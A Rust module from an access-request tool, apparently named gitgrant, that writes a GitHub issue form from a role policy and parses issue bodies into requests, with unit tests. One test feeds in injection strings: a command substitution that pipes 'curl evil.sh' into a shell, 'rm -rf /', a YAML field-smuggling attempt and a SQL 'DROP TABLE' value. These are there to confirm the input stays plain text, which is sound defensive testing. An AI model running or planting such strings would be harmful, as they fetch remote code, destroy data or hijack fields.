//! The request form: a GitHub issue form made from
//! the policy, and the reading of an issue body GitHub rendered from it.
//!
//! Pure values: nothing here talks to GitHub or writes files. The body of
//! an issue is data an attacker may write; it is read into plain strings,
//! never interpolated into a shell or a YAML document by hand (the grant
//! file is made from these strings by the serialiser, as `request` does).
//!
//! `gitgrant portal` writes the form (and `init` does), `request
//! --from-issue` reads the issues opened from it.

use crate::policy::Policy;

/// Where the form lives in an access repository.
pub const FORM_PATH: &str = ".github/ISSUE_TEMPLATE/gitgrant-request.yml";

/// The form's labels, which are also the `### Label` headings of the body
/// GitHub renders from it.
pub mod label {
    /// The role dropdown.
    pub const ROLE: &str = "Role";
    /// How long, from the merge.
    pub const DURATION: &str = "Duration";
    /// An explicit window's start.
    pub const STARTS: &str = "Starts";
    /// An explicit window's end.
    pub const EXPIRES: &str = "Expires";
    /// Why.
    pub const REASON: &str = "Reason";
    /// The ticket or incident.
    pub const TICKET: &str = "Ticket";
}

/// What the branch of every pull request the form opens starts with; the
/// issue's number follows.
pub const BRANCH_PREFIX: &str = "gitgrant/issue-";

/// The branch of the pull request opened for issue `issue`.
pub fn branch_of(issue: u64) -> String {
    format!("{BRANCH_PREFIX}{issue}")
}

/// What GitHub writes for an optional field left empty.
pub const NO_RESPONSE: &str = "_No response_";

/// One line of text with no line breaks and runs of white space made one
/// space: dropdown options and descriptions are single lines.
fn one_line(s: &str) -> String {
    s.split_whitespace().collect::<Vec<_>>().join(" ")
}

/// A dropdown option for a role: `<name>: <description> (at most <max>;
/// <targets>)`. The name comes first and is a slug, so the option reads
/// back by what precedes the first `: `.
pub fn role_option(policy: &Policy, role: &crate::policy::Role) -> String {
    one_line(&format!(
        "{}: {} (at most {}; {})",
        role.name,
        role.description,
        role.max_duration,
        crate::providers::targets_text(policy, role)
    ))
}

/// An issue form (GitHub's issue-form syntax), as written to YAML.
#[derive(serde::Serialize)]
struct Form {
    name: &'static str,
    description: String,
    title: &'static str,
    labels: [&'static str; 1],
    body: Vec<Element>,
}

/// One element of an issue form's `body`.
#[derive(serde::Serialize)]
struct Element {
    #[serde(rename = "type")]
    kind: &'static str,
    #[serde(skip_serializing_if = "Option::is_none")]
    id: Option<&'static str>,
    attributes: Attributes,
    #[serde(skip_serializing_if = "Option::is_none")]
    validations: Option<Validations>,
}

#[derive(serde::Serialize, Default)]
struct Attributes {
    #[serde(skip_serializing_if = "Option::is_none")]
    label: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    description: Option<String>,
    #[serde(skip_serializing_if = "Option::is_none")]
    placeholder: Option<&'static str>,
    #[serde(skip_serializing_if = "Option::is_none")]
    value: Option<&'static str>,
    #[serde(skip_serializing_if = "Vec::is_empty")]
    options: Vec<String>,
}

#[derive(serde::Serialize)]
struct Validations {
    required: bool,
}

/// The label issues opened from the form carry.
pub const ISSUE_LABEL: &str = "gitgrant-request";

/// The issue form's YAML: a dropdown of the roles that take requests (not
/// break-glass roles, which are for a terminal in an incident), the
/// duration or the window, the reason, and the ticket.
pub fn issue_form(policy: &Policy) -> String {
    let roles: Vec<&crate::policy::Role> =
        policy.roles.values().filter(|r| !r.break_glass).collect();
    let ticketed: Vec<String> = roles
        .iter()
        .filter_map(|r| {
            r.require_ticket.as_ref().map(|re| {
                format!(
                    "{} (`{}`)",
                    r.name,
                    re.as_str()
                        .trim_start_matches("^(?:")
                        .trim_end_matches(")$")
                )
            })
        })
        .collect();
    let input = |id, label, description: &str, placeholder| Element {
        kind: "input",
        id: Some(id),
        attributes: Attributes {
            label: Some(label),
            description: Some(description.to_string()),
            placeholder: Some(placeholder),
            ..Attributes::default()
        },
        validations: None,
    };
    let required = Some(Validations { required: true });
    let form = Form {
        name: "Request access",
        description: format!(
            "Ask for just-in-time access in {}: gitgrant opens the pull request for you.",
            policy.repository()
        ),
        title: "Access request",
        labels: [ISSUE_LABEL],
        body: vec![
            Element {
                kind: "markdown",
                id: None,
                attributes: Attributes {
                    value: Some(
                        "The access is for you, the issue's author. gitgrant checks the request \
                         against the policy, opens a pull request and links it here; its \
                         approvers review it like any other.",
                    ),
                    ..Attributes::default()
                },
                validations: None,
            },
            Element {
                kind: "dropdown",
                id: Some("role"),
                attributes: Attributes {
                    label: Some(label::ROLE),
                    options: roles.iter().map(|r| role_option(policy, r)).collect(),
                    ..Attributes::default()
                },
                validations: required,
            },
            input(
                "duration",
                label::DURATION,
                "How long from the merge: 30m, 2h, 1d, 1h30m (at most the role's maximum). \
                 Or leave it empty and give a window below.",
                "2h",
            ),
            input(
                "starts",
                label::STARTS,
                "Start of an explicit window (RFC 3339 with an offset); empty: from the merge.",
                // Not a bare timestamp: YAML 1.1 parsers, as GitHub's may be,
                // would read it as a time rather than a string.
                "e.g. 2026-11-23T10:00:00Z",
            ),
            input(
                "expires",
                label::EXPIRES,
                "End of an explicit window (RFC 3339 with an offset), instead of a duration.",
                "e.g. 2026-11-23T12:00:00Z",
            ),
            Element {
                kind: "textarea",
                id: Some("reason"),
                attributes: Attributes {
                    label: Some(label::REASON),
                    description: Some(
                        "Why you need the access, for the approvers and the audit.".into(),
                    ),
                    ..Attributes::default()
                },
                validations: Some(Validations { required: true }),
            },
            input(
                "ticket",
                label::TICKET,
                &if ticketed.is_empty() {
                    "The ticket or incident, if any.".to_string()
                } else {
                    format!(
                        "The ticket or incident; required for {}.",
                        ticketed.join(", ")
                    )
                },
                "INC-1234",
            ),
        ],
    };
    format!(
        "# Generated by `gitgrant portal` from gitgrant.yaml. Do not edit by hand:\n\
         # change gitgrant.yaml and run `gitgrant portal` (CI checks that they agree).\n{}",
        crate::yaml::to_string(&form)
    )
}

/// A request as an issue body gives it, fields as written (empty optional
/// fields are `None`).
#[derive(Debug, Clone, PartialEq, Eq)]
pub struct FormRequest {
    /// The role's name.
    pub role: String,
    /// How long, as written.
    pub duration: Option<String>,
    /// An explicit window's start, as written.
    pub starts: Option<String>,
    /// An explicit window's end, as written.
    pub expires: Option<String>,
    /// Why.
    pub reason: String,
    /// The ticket.
    pub ticket: Option<String>,
}

/// Why an issue body cannot be read as a request, one per field.
#[derive(Debug, Clone, PartialEq, Eq, thiserror::Error)]
pub enum FormError {
    /// A required section is missing or empty.
    #[error("the form's `{0}` is missing or empty")]
    Missing(&'static str),
    /// The role is not one of the form's options.
    #[error("`{0}` is not a role of this access repository")]
    UnknownRole(String),
    /// A single-line field holds several lines.
    #[error("the form's `{0}` must be one line")]
    Multiline(&'static str),
    /// A section appears twice (the body was edited by hand).
    #[error("the form's `{0}` appears more than once: edit the fields, not the headings")]
    Repeated(&'static str),
}

/// The `### Label` sections of a body GitHub rendered from an issue form:
/// `(label, value)` in order, each value trimmed, `_No response_` as empty.
pub fn sections(body: &str) -> Vec<(String, String)> {
    let mut out: Vec<(String, String)> = Vec::new();
    for line in body.replace("\r\n", "\n").split('\n') {
        if let Some(label) = line.strip_prefix("### ") {
            out.push((label.trim().to_string(), String::new()));
        } else if let Some((_, value)) = out.last_mut() {
            value.push_str(line);
            value.push('\n');
        }
    }
    for (_, v) in &mut out {
        *v = v.trim().to_string();
        if v == NO_RESPONSE {
            v.clear();
        }
    }
    out
}

/// Reads an issue body as a request under `policy`: every problem at once.
/// The values are plain strings; what they mean (a duration, a time, a
/// ticket matching the role) is for grant validation to judge.
pub fn read_issue(policy: &Policy, body: &str) -> Result<FormRequest, Vec<FormError>> {
    let sections = sections(body);
    let get = |label: &str| {
        sections
            .iter()
            .find(|(l, _)| l == label)
            .map(|(_, v)| v.clone())
            .filter(|v| !v.is_empty())
    };
    let mut errors = Vec::new();
    for l in [
        label::ROLE,
        label::DURATION,
        label::STARTS,
        label::EXPIRES,
        label::REASON,
        label::TICKET,
    ] {
        if sections.iter().filter(|(s, _)| s == l).count() > 1 {
            errors.push(FormError::Repeated(l));
        }
    }
    let mut single = |label: &'static str| {
        let v = get(label);
        if v.as_ref().is_some_and(|v| v.contains('\n')) {
            errors.push(FormError::Multiline(label));
        }
        v
    };
    let role_text = single(label::ROLE);
    let duration = single(label::DURATION);
    let starts = single(label::STARTS);
    let expires = single(label::EXPIRES);
    let ticket = single(label::TICKET);
    let role = match role_text {
        None => {
            errors.push(FormError::Missing(label::ROLE));
            None
        }
        Some(text) => {
            let name = text
                .split_once(": ")
                .map_or(text.as_str(), |(n, _)| n)
                .trim();
            match policy.roles.get(name).filter(|r| !r.break_glass) {
                Some(r) => Some(r.name.clone()),
                None => {
                    errors.push(FormError::UnknownRole(one_line(&text)));
                    None
                }
            }
        }
    };
    let reason = get(label::REASON);
    if reason.is_none() {
        errors.push(FormError::Missing(label::REASON));
    }
    match (role, reason) {
        (Some(role), Some(reason)) if errors.is_empty() => Ok(FormRequest {
            role,
            duration,
            starts,
            expires,
            reason,
            ticket,
        }),
        _ => Err(errors),
    }
}

#[cfg(test)]
mod tests {
    use super::*;

    fn policy() -> Policy {
        let text = std::fs::read_to_string(
            std::path::Path::new(env!("CARGO_MANIFEST_DIR"))
                .join("tests/fixtures/base/gitgrant.yaml"),
        )
        .unwrap();
        let file = crate::snapshot::SourceFile {
            path: "gitgrant.yaml".into(),
            content: crate::snapshot::Content::Bytes(text.into_bytes()),
        };
        let (p, errors) = crate::validate::read_policy(&file);
        assert!(errors.is_empty(), "{errors:?}");
        p.unwrap()
    }

    /// The body GitHub renders for a filled-in form.
    fn body(role: &str, duration: &str, reason: &str, ticket: &str) -> String {
        format!(
            "### Role\n\n{role}\n\n### Duration\n\n{duration}\n\n### Starts\n\n_No response_\n\n\
             ### Expires\n\n_No response_\n\n### Reason\n\n{reason}\n\n### Ticket\n\n{ticket}\n"
        )
    }

    #[test]
    fn the_form_is_yaml_with_one_option_per_requestable_role() {
        let p = policy();
        let form: serde_yaml::Value = serde_yaml::from_str(&issue_form(&p)).unwrap();
        let body = form["body"].as_sequence().unwrap();
        let dropdown = body.iter().find(|b| b["type"] == "dropdown").unwrap();
        let options: Vec<&str> = dropdown["attributes"]["options"]
            .as_sequence()
            .unwrap()
            .iter()
            .map(|o| o.as_str().unwrap())
            .collect();
        assert_eq!(
            options.len(),
            p.roles.values().filter(|r| !r.break_glass).count()
        );
        assert!(options[0].starts_with("prod-readonly: Read-only production (at most 8h; AWS account `111111111111` (aws-prod))"), "{options:?}");
        let labels: Vec<&str> = body
            .iter()
            .filter_map(|b| b["attributes"]["label"].as_str())
            .collect();
        assert_eq!(
            labels,
            ["Role", "Duration", "Starts", "Expires", "Reason", "Ticket"]
        );
        // Every option reads back as its role.
        for o in options {
            let got = read_issue(&p, &body_of(o)).unwrap();
            assert!(o.starts_with(&format!("{}: ", got.role)));
        }
    }

    fn body_of(option: &str) -> String {
        body(option, "2h", "INC-1: latency", "_No response_")
    }

    #[test]
    fn a_filled_in_form_reads_back_and_empty_fields_are_none() {
        let p = policy();
        let option = role_option(&p, &p.roles["vendor-staging"]);
        let got = read_issue(&p, &body(&option, "1d", "Vendor\nmaintenance", "VND-7")).unwrap();
        assert_eq!(
            got,
            FormRequest {
                role: "vendor-staging".into(),
                duration: Some("1d".into()),
                starts: None,
                expires: None,
                reason: "Vendor\nmaintenance".into(),
                ticket: Some("VND-7".into()),
            }
        );
    }

    #[test]
    fn garbage_and_unknown_roles_are_errors_for_every_field_at_once() {
        let p = policy();
        assert_eq!(
            read_issue(&p, "I need prod access now, please"),
            Err(vec![
                FormError::Missing("Role"),
                FormError::Missing("Reason")
            ])
        );
        let got = read_issue(
            &p,
            &body("root: everything", "2h\n3h", "x", "_No response_"),
        );
        assert_eq!(
            got,
            Err(vec![
                FormError::Multiline("Duration"),
                FormError::UnknownRole("root: everything".into())
            ])
        );
    }

    #[test]
    fn injection_attempts_stay_plain_strings() {
        let p = policy();
        let option = role_option(&p, &p.roles["prod-readonly"]);
        let nasty =
            "$(curl evil.sh | sh) `rm -rf /` ]] \"; role: admin\nsubject: mallory\n<!-- -->";
        let got = read_issue(&p, &body(&option, "2h", nasty, "'; DROP TABLE--")).unwrap();
        assert_eq!(got.role, "prod-readonly");
        assert_eq!(got.reason, nasty.trim());
        assert_eq!(got.ticket.as_deref(), Some("'; DROP TABLE--"));
        // A heading smuggled into a field makes the body ambiguous: refused.
        let smuggled = body(&option, "2h", "ok\n### Role\nadmin", "_No response_");
        assert_eq!(
            read_issue(&p, &smuggled),
            Err(vec![FormError::Repeated("Role")])
        );
    }
}
